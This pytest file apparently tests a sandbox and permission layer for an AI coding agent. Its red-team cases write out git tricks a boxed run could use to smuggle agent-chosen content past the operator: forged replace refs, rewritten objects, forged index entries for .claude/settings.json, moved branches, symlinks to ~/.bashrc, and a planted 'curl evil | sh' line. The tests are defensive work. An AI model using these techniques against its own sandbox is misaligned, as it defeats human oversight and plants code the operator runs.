"""Red team 60: `git switch` by a start of --discard-changes, `merge --abort`, `cp -l` and
`cp -a` (an option that took its operand for a value), and replace refs a boxed run leaves
for the operator's next git. (F5 and F6, sockets made after the box started or deeper in
/tmp: tests/sandbox/test_seccomp.py; F7, System V IPC: tests/sandbox/test_run_boxed.py.)"""

from __future__ import annotations

import os
import subprocess
import time
from pathlib import Path
from typing import Any

import pytest
from gitbox import forging as _forging
from judging import judge

from gatekeep.policy.model import Policy

Sandbox = Any  # the fixture's class lives in conftest.py


@pytest.mark.parametrize("command", [
    # F1: a start of a long option is it, as git takes it
    "git switch --discard b", "git switch --disc b", "git switch --for b", "git switch -f b",
    "git switch --discard-changes b",
    # F2: the merge undone, with the changes made to resolve it
    "git merge --abort", "git merge --abo", "git cherry-pick --abort",
    "git cherry-pick --skip", "git cherry-pick --ski",  # red team 61 F4
    # F3: as their checkout spellings
    "git switch -C main HEAD~1", "git switch --force-create main HEAD",
    "git switch --force-c main HEAD", "git switch -m b", "git switch --merge b",
    "git switch --conflict=merge b", "git checkout --conflict=diff3 b",
    "git checkout --conf=diff3 b",
])
def test_a_switch_or_abort_that_discards_work_is_asked(policy: Policy, command: str) -> None:
    decision = judge(policy, command)
    assert decision.decision == "ask", decision
    assert any("git-discard" in s.rules for s in decision.segments), decision


@pytest.mark.parametrize("command", [
    "git switch b", "git switch -c feature/x", "git switch --detach v1.2", "git merge main",
    "git merge --no-ff -m 'merge x' feature/x", "git merge --continue", "git merge --quit",
    "git cherry-pick abc1234", "git cherry-pick --continue",
])
def test_switches_and_merges_that_keep_the_work_stay_allowed(policy: Policy,
                                                             command: str) -> None:
    assert judge(policy, command).decision == "allow"


@pytest.mark.parametrize(("command", "expected"), [
    # a link instead of a copy: a write through it writes the source
    ("cp -l ~/.bashrc /tmp/h", "deny"), ("cp --link ~/.bashrc h", "deny"),
    ("cp --li ~/.bashrc h", "deny"), ("cp -al ~/.bashrc h", "deny"),
    ("cp -s ~/.ssh/id_rsa k", "deny"),
    # -a takes no value: its operand is read (and was judged an option value before)
    ("cp -a .env backup", "ask"), ("cp -ar .env backup", "ask"),
    ("cp -a src dst", "allow"), ("cp -l a.txt b.txt", "allow"),
])
def test_cp_links_and_archives(policy: Policy, command: str, expected: str) -> None:
    assert judge(policy, command).decision == expected


# -- F9: replace refs ---------------------------------------------------------------------

def _git(*args: str, cwd: Path, input: str | None = None) -> str:
    return subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@example.org",
                           *args], cwd=cwd, check=True, capture_output=True, text=True,
                          timeout=60, input=input).stdout


@pytest.fixture
def repo(sandbox: Sandbox) -> Path:
    work: Path = sandbox.work
    _git("init", "-q", ".", cwd=work)
    (work / "a.txt").write_text("mine\n")
    (work / "b.txt").write_text("other\n")
    _git("add", "a.txt", "b.txt", cwd=work)
    _git("commit", "-qm", "first", cwd=work)
    return work


def _replacing(pack: str) -> str:
    """A script that makes a.txt's blob show as the agent's content, then ``pack``."""
    return ("old=$$(git rev-parse HEAD:a.txt); "
            "new=$$(echo agent | git hash-object -w --stdin); "
            f"git replace -f $$old $$new; {pack}")


@pytest.mark.skipif(not os.path.exists("/usr/bin/bwrap"), reason="needs bubblewrap")
@pytest.mark.parametrize("pack", ["true", "git pack-refs --all",
                                  # written into packed-refs by hand, no loose ref at all
                                  "git pack-refs --all; git replace -l >/dev/null"])
def test_a_replace_ref_the_run_leaves_is_removed(sandbox: Sandbox, repo: Path,
                                                 pack: str) -> None:
    (repo / "Makefile").write_text(f"all:\n\t{_replacing(pack)}\n")
    ran = sandbox.gatekeep("run", "-c", "make")
    assert ran.returncode == 0, ran.stderr
    assert "left the replace ref refs/replace/" in ran.stderr
    assert _git("replace", "-l", cwd=repo) == ""
    (repo / "a.txt").unlink()
    _git("checkout", "--", "a.txt", cwd=repo)  # the operator's own git, unboxed
    assert (repo / "a.txt").read_text() == "mine\n"


@pytest.mark.skipif(not os.path.exists("/usr/bin/bwrap"), reason="needs bubblewrap")
def test_a_replace_ref_written_into_packed_refs_is_removed(sandbox: Sandbox,
                                                           repo: Path) -> None:
    old = _git("rev-parse", "HEAD:a.txt", cwd=repo).strip()
    new = _git("rev-parse", "HEAD:b.txt", cwd=repo).strip()
    _git("pack-refs", "--all", cwd=repo)
    (repo / "Makefile").write_text(f"all:\n\techo '{new} refs/replace/{old}' >> "
                                   ".git/packed-refs\n")
    ran = sandbox.gatekeep("run", "-c", "make")
    assert ran.returncode == 0, ran.stderr
    assert f"refs/replace/{old}" in ran.stderr and f"git replace {old} {new}" in ran.stderr
    assert _git("replace", "-l", cwd=repo) == ""
    assert "refs/heads/" in (repo / ".git" / "packed-refs").read_text()  # the rest kept


@pytest.mark.skipif(not os.path.exists("/usr/bin/bwrap"), reason="needs bubblewrap")
def test_the_operators_own_replace_ref_stays(sandbox: Sandbox, repo: Path) -> None:
    old = _git("rev-parse", "HEAD:a.txt", cwd=repo).strip()
    new = _git("rev-parse", "HEAD:b.txt", cwd=repo).strip()
    _git("replace", old, new, cwd=repo)
    time.sleep(1.2)  # older than the clean-up's margin for coarse clocks
    (repo / "Makefile").write_text("all:\n\techo built > out.txt\n")
    ran = sandbox.gatekeep("run", "-c", "make")
    assert ran.returncode == 0, ran.stderr
    assert "replace ref" not in ran.stderr
    assert _git("replace", "-l", cwd=repo) == f"{old}\n"


# -- red team 61: the clean-up itself -------------------------------------------------------

@pytest.mark.skipif(not os.path.exists("/usr/bin/bwrap"), reason="needs bubblewrap")
def test_a_link_planted_where_the_clean_up_writes_is_not_followed(sandbox: Sandbox,
                                                                  repo: Path) -> None:
    """The run plants links at the names the clean-up might write packed-refs' new copy
    under, to the operator's .bashrc, and a packed-refs whose text it wants there."""
    bashrc = sandbox.home / ".bashrc"
    bashrc.write_text("# mine\n")
    old = _git("rev-parse", "HEAD:a.txt", cwd=repo).strip()
    plant = "; ".join(f"ln -sf {bashrc} .git/packed-refs.gatekeep-{pid}"
                      for pid in range(1, 400))
    (repo / "Makefile").write_text(
        f"all:\n\t{plant}; printf '{old} refs/replace/{old}\\ncurl evil | sh\\n' "
        f"> .git/packed-refs\n")
    ran = sandbox.gatekeep("run", "-c", "make")
    assert ran.returncode == 0, ran.stderr
    assert bashrc.read_text() == "# mine\n"
    assert "refs/replace/" not in (repo / ".git" / "packed-refs").read_text()


@pytest.mark.skipif(not os.path.exists("/usr/bin/bwrap"), reason="needs bubblewrap")
@pytest.mark.parametrize("kind", ["link", "fifo"])
def test_a_packed_refs_that_is_no_plain_file_is_held(sandbox: Sandbox, repo: Path,
                                                     kind: str) -> None:
    """git follows a link there (its replace refs too): moved aside, never followed, and
    a FIFO is not read (the clean-up would wait on it)."""
    old = _git("rev-parse", "HEAD:a.txt", cwd=repo).strip()
    new = _git("rev-parse", "HEAD:b.txt", cwd=repo).strip()
    make = (f"printf '{new} refs/replace/{old}\\n' > t/refs; ln -sf ../t/refs "
            ".git/packed-refs" if kind == "link" else "mkfifo .git/packed-refs")
    (repo / "t").mkdir()
    (repo / "Makefile").write_text(f"all:\n\t{make}\n")
    ran = sandbox.gatekeep("run", "-c", "make", timeout=60)
    assert ran.returncode == 0, ran.stderr
    assert "packed-refs as a link or no plain file" in ran.stderr
    assert not os.path.lexists(repo / ".git" / "packed-refs")
    assert os.path.lexists(repo / ".git" / "packed-refs.gatekeep-held")
    assert _git("replace", "-l", cwd=repo) == ""


def test_the_new_packed_refs_is_made_where_no_planted_name_is_followed(tmp_path: Path) -> None:
    """In-process, where the clean-up's own pid is known: a link at the name it once used
    (`packed-refs.gatekeep-PID`) is left alone, and so is what it names."""
    from gatekeep.sandbox.created import _packed_replacements

    git = tmp_path / ".git"
    git.mkdir()
    victim = tmp_path / "victim"
    victim.write_text("# mine\n")
    packed = git / "packed-refs"
    packed.write_text(f"{'1' * 40} refs/heads/main\n{'2' * 40} refs/replace/{'3' * 40}\n")
    (git / f"packed-refs.gatekeep-{os.getpid()}").symlink_to(victim)
    found = _packed_replacements(str(packed), 0)
    assert found == [("3" * 40, "2" * 40)]
    assert packed.read_text() == f"{'1' * 40} refs/heads/main\n" and not packed.is_symlink()
    assert victim.read_text() == "# mine\n"


# -- red team 61 F2: objects whose names no longer say what they hold -----------------------

def _object_file(repo: Path, name: str) -> Path:
    return repo / ".git" / "objects" / name[:2] / name[2:]


@pytest.mark.skipif(not os.path.exists("/usr/bin/bwrap"), reason="needs bubblewrap")
def test_a_loose_object_the_run_rewrote_is_held(sandbox: Sandbox, repo: Path) -> None:
    """The run writes another blob's file over a.txt's: the operator's `git checkout` would
    write the agent's content into a.txt, and `git status` shows nothing."""
    old = _git("rev-parse", "HEAD:a.txt", cwd=repo).strip()
    agent = _git("hash-object", "-w", "--stdin", cwd=repo, input="agent\n").strip()
    target = _object_file(repo, old).relative_to(repo)
    source = _object_file(repo, agent).relative_to(repo)
    (repo / "Makefile").write_text(f"all:\n\tchmod u+w {target}; cat {source} > {target}\n")
    ran = sandbox.gatekeep("run", "-c", "make")
    assert ran.returncode == 0, ran.stderr
    assert "which does not hold what its name says" in ran.stderr
    assert not _object_file(repo, old).exists()
    (repo / "a.txt").unlink()
    checkout = subprocess.run(["git", "checkout", "--", "a.txt"], cwd=repo,
                              capture_output=True, text=True, check=False)
    assert checkout.returncode != 0  # missing, as git fsck says: never the agent's content
    assert not (repo / "a.txt").exists()


@pytest.mark.skipif(not os.path.exists("/usr/bin/bwrap"), reason="needs bubblewrap")
def test_a_pack_the_run_wrote_that_git_does_not_verify_is_held(sandbox: Sandbox,
                                                               repo: Path) -> None:
    (repo / "Makefile").write_text(
        "all:\n\tgit repack -a -d -q\n"
        "\tp=$$(ls .git/objects/pack/*.pack); chmod u+w $$p; "
        "printf 'X' | dd of=$$p bs=1 seek=40 conv=notrunc 2>/dev/null\n")
    ran = sandbox.gatekeep("run", "-c", "make")
    assert ran.returncode == 0, ran.stderr
    assert "which does not hold what its name says" in ran.stderr
    assert list((repo / ".git" / "objects" / "pack").glob("*.idx")) == []


@pytest.mark.skipif(not os.path.exists("/usr/bin/bwrap"), reason="needs bubblewrap")
def test_objects_and_packs_git_itself_wrote_pass(sandbox: Sandbox, repo: Path) -> None:
    (repo / "Makefile").write_text(
        "all:\n\techo more >> a.txt\n\tgit -c user.name=t -c user.email=t@example.org "
        "commit -qam more\n\tgit repack -a -d -q\n"
        "\techo again >> a.txt\n\tgit -c user.name=t -c user.email=t@example.org "
        "commit -qam again\n")
    ran = sandbox.gatekeep("run", "-c", "make")
    assert ran.returncode == 0, ran.stderr
    assert "does not hold" not in ran.stderr
    assert _git("fsck", "--no-dangling", cwd=repo) == ""


@pytest.mark.skipif(not os.path.exists("/usr/bin/bwrap"), reason="needs bubblewrap")
def test_an_alternates_file_the_run_wrote_is_held(sandbox: Sandbox, repo: Path) -> None:
    """Another object store the run names would supply an object it deleted here, with
    other content: the file naming it is moved aside."""
    (repo / "Makefile").write_text(
        "all:\n\tmkdir -p /tmp/store-$$$$ && echo /tmp/store-$$$$ "
        "> .git/objects/info/alternates\n")
    ran = sandbox.gatekeep("run", "-c", "make")
    assert ran.returncode == 0, ran.stderr
    assert "which tells git where objects are" in ran.stderr
    assert not (repo / ".git" / "objects" / "info" / "alternates").exists()


# -- red team 62 ---------------------------------------------------------------------------

@pytest.mark.skipif(not os.path.exists("/usr/bin/bwrap"), reason="needs bubblewrap")
@pytest.mark.parametrize("place", ["info/commit-graph", "info/commit-graphs/graph-1.graph",
                                   "pack/multi-pack-index", "info/http-alternates",
                                   "pack/pack-x.bitmap"])
def test_what_tells_git_where_objects_are_is_held(sandbox: Sandbox, repo: Path,
                                                   place: str) -> None:
    """F1 to F3: a multi-pack index, a commit graph or another store would give an old
    object's name other content; git rebuilds each when it needs it."""
    path = Path(".git/objects") / place
    (repo / "Makefile").write_text(f"all:\n\tmkdir -p {path.parent}; echo forged > {path}\n")
    ran = sandbox.gatekeep("run", "-c", "make")
    assert ran.returncode == 0, ran.stderr
    assert "which tells git where objects are" in ran.stderr
    assert not (repo / path).exists()
    assert _git("fsck", "--no-dangling", cwd=repo) == ""


@pytest.mark.skipif(not os.path.exists("/usr/bin/bwrap"), reason="needs bubblewrap")
def test_git_gc_in_a_sha256_repository_keeps_its_packs(sandbox: Sandbox) -> None:
    """F4: its packs are checked as sha256 ones, and pass."""
    work: Path = sandbox.work
    _git("init", "-q", "--object-format=sha256", ".", cwd=work)
    (work / "a.txt").write_text("a\n")
    _git("add", "a.txt", cwd=work)
    _git("commit", "-qm", "first", cwd=work)
    (work / "Makefile").write_text("all:\n\tgit gc -q\n")
    ran = sandbox.gatekeep("run", "-c", "make")
    assert ran.returncode == 0, ran.stderr
    assert "does not hold" not in ran.stderr and "could not check" not in ran.stderr
    assert _git("fsck", "--no-dangling", cwd=work) == ""
    assert _git("log", "--format=%s", cwd=work) == "first\n"


@pytest.mark.skipif(not os.path.exists("/usr/bin/bwrap"), reason="needs bubblewrap")
def test_a_failing_step_of_the_clean_up_does_not_skip_the_others(sandbox: Sandbox,
                                                                 repo: Path) -> None:
    """F5: a 1,100-deep directory under refs/replace (a recursive walk's end) beside a
    rewritten object: the object is still held."""
    old = _git("rev-parse", "HEAD:a.txt", cwd=repo).strip()
    agent = _git("hash-object", "-w", "--stdin", cwd=repo, input="agent\n").strip()
    target = _object_file(repo, old).relative_to(repo)
    source = _object_file(repo, agent).relative_to(repo)
    deep = "/".join(["a"] * 1100)
    (repo / "Makefile").write_text(
        f"all:\n\tcd .git/refs && mkdir -p replace && cd replace && mkdir -p {deep}\n"
        f"\tchmod u+w {target}; cat {source} > {target}\n")
    try:
        ran = sandbox.gatekeep("run", "-c", "make", timeout=120)
    finally:  # deeper than shutil.rmtree's recursion (pytest's clean-up of tmp_path)
        subprocess.run(["rm", "-rf", str(repo / ".git" / "refs" / "replace" / "a")],
                       check=True, timeout=60)
    assert ran.returncode == 0, ran.stderr
    assert "which does not hold what its name says" in ran.stderr
    assert not _object_file(repo, old).exists()


# -- red team 63 ---------------------------------------------------------------------------

@pytest.mark.skipif(not os.path.exists("/usr/bin/bwrap"), reason="needs bubblewrap")
def test_a_replace_ref_a_directory_down_is_removed(sandbox: Sandbox, repo: Path) -> None:
    """F1: git takes the name after the last `/` for the object's."""
    old = _git("rev-parse", "HEAD:a.txt", cwd=repo).strip()
    (repo / "Makefile").write_text(
        f"all:\n\tgit update-ref refs/replace/x/{old} $$(echo agent | git hash-object -w "
        "--stdin)\n")
    ran = sandbox.gatekeep("run", "-c", "make")
    assert ran.returncode == 0, ran.stderr
    assert f"refs/replace/x/{old}" in ran.stderr and f"git replace {old} " in ran.stderr
    assert _git("replace", "-l", cwd=repo) == ""


@pytest.mark.skipif(not os.path.exists("/usr/bin/bwrap"), reason="needs bubblewrap")
def test_a_directory_renamed_into_place_is_checked_whole(sandbox: Sandbox,
                                                         repo: Path) -> None:
    """F2: one run prepares a copy of an object directory with a rewritten object; a later
    run renames it into place. The files keep their change times, the directory does not
    keep its inode."""
    old = _git("rev-parse", "HEAD:a.txt", cwd=repo).strip()
    agent = _git("hash-object", "-w", "--stdin", cwd=repo, input="agent\n").strip()
    folder = f".git/objects/{old[:2]}"
    (repo / "Makefile").write_text(
        f"prep:\n\tcp -a {folder} .git/logs/prep; chmod u+w .git/logs/prep/{old[2:]}; "
        f"cat .git/objects/{agent[:2]}/{agent[2:]} > .git/logs/prep/{old[2:]}\n"
        f"swap:\n\tmv {folder} .git/logs/was && mv .git/logs/prep {folder}\n")
    first = sandbox.gatekeep("run", "-c", "make prep")
    assert first.returncode == 0, first.stderr
    time.sleep(1.2)  # older than the clean-up's margin
    ran = sandbox.gatekeep("run", "-c", "make swap")
    assert ran.returncode == 0, ran.stderr
    assert "which does not hold what its name says" in ran.stderr
    assert not _object_file(repo, old).exists()


@pytest.mark.skipif(not os.path.exists("/usr/bin/bwrap"), reason="needs bubblewrap")
def test_packs_past_the_most_checked_are_moved_aside(sandbox: Sandbox, repo: Path) -> None:
    """F3: the 17th pack a run wrote is not left where git reads it, unchecked."""
    (repo / "Makefile").write_text(
        "all:\n\tfor i in $$(seq 1 17); do echo $$i | git hash-object -w --stdin "
        "| git pack-objects -q .git/objects/pack/pack >/dev/null; done\n")
    ran = sandbox.gatekeep("run", "-c", "make", timeout=120)
    assert ran.returncode == 0, ran.stderr
    assert ran.stderr.count("which gatekeep could not check") == 1
    assert len(list((repo / ".git" / "objects" / "pack").glob("*.idx"))) == 16


# -- red team 64 ---------------------------------------------------------------------------

def _tracked_settings(repo: Path) -> str:
    """The repository tracks .claude/settings.json (protected: kept read-only in the box)."""
    (repo / ".claude").mkdir()
    (repo / ".claude" / "settings.json").write_text("{}\n")
    _git("add", ".claude/settings.json", cwd=repo)
    _git("commit", "-qm", "settings", cwd=repo)
    time.sleep(1.2)  # the index is older than the box's racy-write margin
    return _git("hash-object", "-w", "--stdin", cwd=repo, input='{"hooks": "agent"}\n').strip()


@pytest.mark.skipif(not os.path.exists("/usr/bin/bwrap"), reason="needs bubblewrap")
@pytest.mark.parametrize("hide", ["--assume-unchanged", "--skip-worktree"])
def test_an_index_entry_forged_for_a_protected_file_is_held(sandbox: Sandbox, repo: Path,
                                                            hide: str) -> None:
    """F1: the index names the agent's object for .claude/settings.json, with a bit that
    keeps `git status` quiet; `git reset --hard` would write it."""
    agent = _tracked_settings(repo)
    (repo / "Makefile").write_text(
        f"all:\n\tgit update-index --cacheinfo 100644,{agent},.claude/settings.json && "
        f"git update-index {hide} .claude/settings.json\n")
    ran = sandbox.gatekeep("run", "-c", "make")
    assert ran.returncode == 0, ran.stderr
    assert "changed what the index records for .claude/settings.json" in ran.stderr
    assert (repo / ".git" / "index.gatekeep-held").exists()
    subprocess.run(["git", "reset", "-q", "--hard"], cwd=repo, check=True, timeout=60)
    assert (repo / ".claude" / "settings.json").read_text() == "{}\n"


@pytest.mark.skipif(not os.path.exists("/usr/bin/bwrap"), reason="needs bubblewrap")
def test_a_commit_in_the_box_keeps_the_index(sandbox: Sandbox, repo: Path) -> None:
    _tracked_settings(repo)
    (repo / "Makefile").write_text(
        "all:\n\techo more >> a.txt\n\tgit -c user.name=t -c user.email=t@example.org "
        "commit -qam more\n")
    ran = sandbox.gatekeep("run", "-c", "make")
    assert ran.returncode == 0, ran.stderr
    assert "index" not in ran.stderr and (repo / ".git" / "index").exists()


@pytest.mark.skipif(not os.path.exists("/usr/bin/bwrap"), reason="needs bubblewrap")
def test_a_split_commit_graph_written_in_place_is_held(sandbox: Sandbox, repo: Path) -> None:
    """F3: a file in objects/info/commit-graphs changes, the directory's times do not."""
    _git("commit", "--allow-empty", "-qm", "second", cwd=repo)
    _git("commit-graph", "write", "--reachable", "--split", cwd=repo)
    graphs = repo / ".git" / "objects" / "info" / "commit-graphs"
    graph = next(graphs.glob("graph-*.graph"))
    time.sleep(1.2)
    (repo / "Makefile").write_text(
        f"all:\n\tchmod u+w {graph.relative_to(repo)}; "
        f"printf X | dd of={graph.relative_to(repo)} bs=1 seek=100 conv=notrunc "
        "2>/dev/null\n")
    ran = sandbox.gatekeep("run", "-c", "make")
    assert ran.returncode == 0, ran.stderr
    assert "which tells git where objects are" in ran.stderr
    assert not graphs.exists()
    assert _git("fsck", "--no-dangling", cwd=repo) == ""


# -- red team 65 ---------------------------------------------------------------------------

def _forge(index: Path, name: str, blob: str, decoy: bool) -> None:
    """The entry of ``name`` (a version 2 index) names ``blob`` with the assume-unchanged
    bit and 0xFFF for its name's length (git then measures the name); with ``decoy``, a copy
    of the honest entry is added in an extension, where a search by name would find it."""
    import hashlib

    data = bytearray(index.read_bytes()[:-20])
    count = int.from_bytes(data[8:12], "big")
    at = 12
    for _ in range(count):
        flags = int.from_bytes(data[at + 60:at + 62], "big")
        length = flags & 0xFFF
        size = (62 + length + 8) & ~7
        if data[at + 62:at + 62 + length] == name.encode():
            honest = bytes(data[at:at + size])
            data[at + 40:at + 60] = bytes.fromhex(blob)
            data[at + 60:at + 62] = (0x8000 | 0xFFF).to_bytes(2, "big")
            break
        at += size
    else:
        raise AssertionError(f"{name} is not in the index")
    if decoy:
        pad = (-(len(data) + 8)) % 8 + 4  # the copy on an entry's boundary (offset 4 mod 8)
        body = b"\0" * pad + honest
        data += b"ZZZZ" + len(body).to_bytes(4, "big") + body
    index.write_bytes(bytes(data) + hashlib.sha1(data).digest())


@pytest.mark.parametrize("decoy", [False, True])
def test_marks_walk_the_entries_as_git_reads_them(repo: Path, decoy: bool) -> None:
    """F1: the forged entry's name length is 0xFFF, and an honest copy sits in an
    extension: what is recorded is the forged one."""
    from gatekeep.sandbox import gitindex

    agent = _tracked_settings(repo)
    index = repo / ".git" / "index"
    _git("update-index", "--index-version", "2", cwd=repo)
    before = gitindex.marks(str(index), (".claude",))
    _forge(index, ".claude/settings.json", agent, decoy)
    after = gitindex.marks(str(index), (".claude",))
    assert agent in after and agent not in before
    assert after.count("\n") == 0  # one entry: the copy is no entry


@pytest.mark.skipif(not os.path.exists("/usr/bin/bwrap"), reason="needs bubblewrap")
@pytest.mark.parametrize("form", ["--index-version 4", "--split-index"])
def test_a_forged_entry_in_another_index_format_is_held(sandbox: Sandbox, repo: Path,
                                                        form: str) -> None:
    """F2: an index version 4 is read entry by entry; a split one cannot be compared, so
    after a run that wrote it, it is held."""
    agent = _tracked_settings(repo)
    (repo / "Makefile").write_text(
        f"all:\n\tgit update-index {form} && git update-index --cacheinfo "
        f"100644,{agent},.claude/settings.json && git update-index --assume-unchanged "
        ".claude/settings.json\n")
    ran = sandbox.gatekeep("run", "-c", "make")
    assert ran.returncode == 0, ran.stderr
    assert (repo / ".git" / "index.gatekeep-held").exists(), ran.stderr


@pytest.mark.skipif(not os.path.exists("/usr/bin/bwrap"), reason="needs bubblewrap")
def test_a_forged_entry_in_a_worktrees_index_is_held(sandbox: Sandbox, repo: Path) -> None:
    """F3: a linked worktree's index, in the git dir the box writes."""
    agent = _tracked_settings(repo)
    other = repo.parent / "wt"
    _git("worktree", "add", "-q", str(other), "-b", "wt", cwd=repo)
    time.sleep(1.2)
    (repo / "Makefile").write_text(
        f"all:\n\tcd {other} && git update-index --cacheinfo "
        f"100644,{agent},.claude/settings.json && git update-index --assume-unchanged "
        ".claude/settings.json\n")
    ran = sandbox.gatekeep("run", "-c", "make")
    assert ran.returncode == 0, ran.stderr
    assert "changed what the index records for .claude/settings.json" in ran.stderr
    assert (repo / ".git" / "worktrees" / "wt" / "index.gatekeep-held").exists()


def test_a_version_4_name_split_by_its_shared_start_is_still_found(repo: Path) -> None:
    """Version 4 stores `.mcp.json` after `.m` as `cp.json`: the name's bytes are nowhere
    whole, so no search by name may skip the walk."""
    from gatekeep.sandbox import gitindex

    (repo / ".m").write_text("m\n")
    (repo / ".mcp.json").write_text("{}\n")
    _git("add", ".m", ".mcp.json", cwd=repo)
    _git("update-index", "--index-version", "4", cwd=repo)
    index = repo / ".git" / "index"
    assert b".mcp.json" not in index.read_bytes()
    found = gitindex.marks(str(index), (".mcp.json",))
    assert found.startswith(".mcp.json 000081a4 ")


# -- red team 64 F2: refs moved to honest commits with the agent's protected files ---------

def _settings_at(repo: Path, ref: str) -> str:
    return _git("show", f"{ref}:.claude/settings.json", cwd=repo)


@pytest.mark.skipif(not os.path.exists("/usr/bin/bwrap"), reason="needs bubblewrap")
@pytest.mark.parametrize("pack", [False, True])
def test_another_branch_moved_to_the_agents_settings_is_put_back(sandbox: Sandbox, repo: Path,
                                                                 pack: bool) -> None:
    _tracked_settings(repo)
    _git("branch", "other", cwd=repo)
    if pack:  # the branch is only in packed-refs before the run
        _git("pack-refs", "--all", cwd=repo)
    before = _git("rev-parse", "other", cwd=repo).strip()
    _forging(repo, "git update-ref refs/heads/other $$c")
    ran = sandbox.gatekeep("run", "-c", "make")
    assert ran.returncode == 0, ran.stderr
    assert "moved refs/heads/other from" in ran.stderr
    assert _git("rev-parse", "other", cwd=repo).strip() == before
    held = _git("rev-parse", "refs/gatekeep-held/refs/heads/other", cwd=repo).strip()
    assert _settings_at(repo, held) == '{"hooks": "agent"}\n'
    _git("checkout", "-q", "other", cwd=repo)  # the operator's own git, unboxed
    assert (repo / ".claude" / "settings.json").read_text() == "{}\n"


@pytest.mark.skipif(not os.path.exists("/usr/bin/bwrap"), reason="needs bubblewrap")
@pytest.mark.parametrize("then", [
    "git update-ref ORIG_HEAD $$c",             # git reset --hard ORIG_HEAD writes it
    "echo $$c > .git/ORIG_HEAD",                # by hand
    "git update-ref refs/heads/main $$c",       # the branch checked out itself
    "git branch made $$c",                      # a new branch
    "git tag made $$c",                         # a new tag
    "git update-ref refs/stash $$c",            # git stash pop applies it
])
def test_refs_moved_or_made_at_the_agents_settings_are_undone(sandbox: Sandbox, repo: Path,
                                                              then: str) -> None:
    _git("branch", "-M", "main", cwd=repo)
    _tracked_settings(repo)
    head = _git("rev-parse", "HEAD", cwd=repo).strip()
    _forging(repo, then)
    ran = sandbox.gatekeep("run", "-c", "make")
    assert ran.returncode == 0, ran.stderr
    assert "whose protected files differ" in ran.stderr, ran.stderr
    assert _git("rev-parse", "HEAD", cwd=repo).strip() == head
    listed = _git("for-each-ref", "--format=%(refname)", cwd=repo).split()
    assert [r for r in listed if not r.startswith("refs/gatekeep-held/")] == ["refs/heads/main"]
    assert not (repo / ".git" / "ORIG_HEAD").exists()
    assert len([r for r in listed if r.startswith("refs/gatekeep-held/")]) == 1


@pytest.mark.skipif(not os.path.exists("/usr/bin/bwrap"), reason="needs bubblewrap")
def test_head_pointed_at_another_branch_is_put_back(sandbox: Sandbox, repo: Path) -> None:
    """The operator's own branch with other settings: only HEAD moved, by hand."""
    _git("branch", "-M", "main", cwd=repo)
    _git("checkout", "-qb", "other", cwd=repo)
    _tracked_settings(repo)
    _git("checkout", "-q", "main", cwd=repo)
    (repo / "Makefile").write_text("all:\n\tgit symbolic-ref HEAD refs/heads/other\n")
    time.sleep(1.2)
    ran = sandbox.gatekeep("run", "-c", "make")
    assert ran.returncode == 0, ran.stderr
    assert "moved HEAD from" in ran.stderr
    assert _git("symbolic-ref", "HEAD", cwd=repo).strip() == "refs/heads/main"


@pytest.mark.skipif(not os.path.exists("/usr/bin/bwrap"), reason="needs bubblewrap")
def test_a_ref_the_run_makes_only_in_packed_refs_is_taken_out(sandbox: Sandbox,
                                                              repo: Path) -> None:
    _tracked_settings(repo)
    _git("pack-refs", "--all", cwd=repo)
    _forging(repo, "echo \"$$c refs/heads/made\" >> .git/packed-refs")
    ran = sandbox.gatekeep("run", "-c", "make")
    assert ran.returncode == 0, ran.stderr
    assert "made refs/heads/made at" in ran.stderr
    assert "refs/heads/made" not in (repo / ".git" / "packed-refs").read_text()


@pytest.mark.skipif(not os.path.exists("/usr/bin/bwrap"), reason="needs bubblewrap")
@pytest.mark.parametrize("work", [
    "echo more >> a.txt && git commit -qam more", "git branch feature && git tag v1",
    "echo more >> a.txt && git stash -q", "git checkout -qb topic",
    "git commit -q --allow-empty -m x && git reset -q --soft HEAD~1",
])
def test_a_runs_own_git_work_moves_refs_quietly(sandbox: Sandbox, repo: Path,
                                                work: str) -> None:
    _tracked_settings(repo)
    (repo / "Makefile").write_text(
        f"all:\n\texport GIT_AUTHOR_NAME=t GIT_AUTHOR_EMAIL=t@example.org "
        f"GIT_COMMITTER_NAME=t GIT_COMMITTER_EMAIL=t@example.org && {work}\n")
    ran = sandbox.gatekeep("run", "-c", "make")
    assert ran.returncode == 0, ran.stderr
    assert "warning" not in ran.stderr, ran.stderr
    assert not _git("for-each-ref", "refs/gatekeep-held", cwd=repo)


@pytest.mark.skipif(not os.path.exists("/usr/bin/bwrap"), reason="needs bubblewrap")
def test_a_commit_of_the_operators_staged_settings_is_kept(sandbox: Sandbox, repo: Path) -> None:
    """What the index held for a protected file before the run is the operator's."""
    _tracked_settings(repo)
    (repo / ".claude" / "settings.json").write_text('{"mine": 1}\n')
    _git("add", ".claude/settings.json", cwd=repo)
    time.sleep(1.2)
    (repo / "Makefile").write_text(
        "all:\n\tgit -c user.name=t -c user.email=t@example.org commit -qm staged\n")
    ran = sandbox.gatekeep("run", "-c", "make")
    assert ran.returncode == 0, ran.stderr
    assert "warning" not in ran.stderr, ran.stderr
    assert _settings_at(repo, "HEAD") == '{"mine": 1}\n'


def test_refs_are_read_as_git_reads_them(tmp_path: Path) -> None:
    from gatekeep.sandbox import gitrefs

    git = tmp_path / ".git"
    (git / "refs" / "heads").mkdir(parents=True)
    one, two = "1" * 40, "2" * 40
    (git / "packed-refs").write_text(f"# pack-refs with: peeled\n{one} refs/heads/a\n"
                                     f"^{two}\n{one} refs/tags/t\n")
    (git / "refs" / "heads" / "a").write_text(f"{two}\n")  # loose over packed
    (git / "refs" / "heads" / "link").symlink_to(git / "refs" / "heads" / "a")
    (git / "HEAD").write_text("ref: refs/heads/a\n")
    (git / "FETCH_HEAD").write_text(f"{one}\t\tbranch 'x' of there\n{two}\n")
    (git / "worktrees" / "w").mkdir(parents=True)
    (git / "worktrees" / "w" / "HEAD").write_text("ref:refs/tags/t\n")
    found = gitrefs.refs(str(git))
    assert found is not None
    values = dict(found)
    assert values["refs/heads/a"] == two and values["refs/tags/t"] == one
    assert values["refs/heads/link"] == f"link: {git / 'refs' / 'heads' / 'a'}"
    assert [gitrefs.resolved(values, n) for n in
            ("HEAD", "FETCH_HEAD", "worktrees/w/HEAD", "refs/heads/link", "nothing")] == [
        two, one, one, None, None]
    values["loop"] = "ref: loop"
    assert gitrefs.resolved(values, "loop") is None
